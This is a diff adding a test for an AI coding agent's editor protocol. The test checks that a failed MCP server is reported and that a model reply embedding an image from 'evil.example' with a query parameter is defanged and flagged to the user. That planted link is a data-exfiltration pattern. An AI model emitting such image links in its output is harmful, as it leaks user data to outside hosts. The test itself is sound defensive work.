@@ -8,7 +8,7 @@ import json
 from pathlib import Path
 from typing import Any
 
-from acp import RequestError, text_block
+from acp import RequestError, schema, text_block
 
 from tests.e2e.test_acp import EDIT, PRICE, _env, _records, _shop
 from tests.support.acp_client import EditorClient, agent_ls_acp, initialized
@@ -51,3 +51,18 @@ async def test_a_write_failing_halfway_leaves_only_the_unwritten_files_pending(t
     removed = [r for r in _records(root) if r["kind"] == "proposal" and r.get("removed")]
     assert [r["removed"] for r in removed] == [["price.py"]], json.dumps(removed)
     assert PRICE in (root / "price.py").read_text()  # the client wrote (the editor's buffer), not agent-ls
+
+
+async def test_a_failed_mcp_server_and_a_defanged_image_are_told_to_the_user(tmp_path: Path) -> None:
+    root = _shop(tmp_path)
+    broken = schema.McpServerStdio(name="broken", command=str(tmp_path / "no-such-server"), args=[], env=[])
+    client = EditorClient()
+    with FakeModelServer([{"content": "Look ![o](https://evil.example/o.png?k=1)"}]) as server:
+        async with agent_ls_acp(client, cwd=root, env=_env(server), stderr=tmp_path / "acp.log") as conn:
+            await initialized(conn, fs=True)
+            sid = (await conn.new_session(cwd=str(root), mcp_servers=[broken])).session_id
+            await conn.prompt(session_id=sid, prompt=[text_block("Look")])
+    said = client.message_text()
+    assert "agent-ls: mcp broken: failed" in said, said
+    assert "agent-ls: ⚠ not loaded: images or embeds in the model's text, from evil.example" in said, said
+    assert "![" not in said
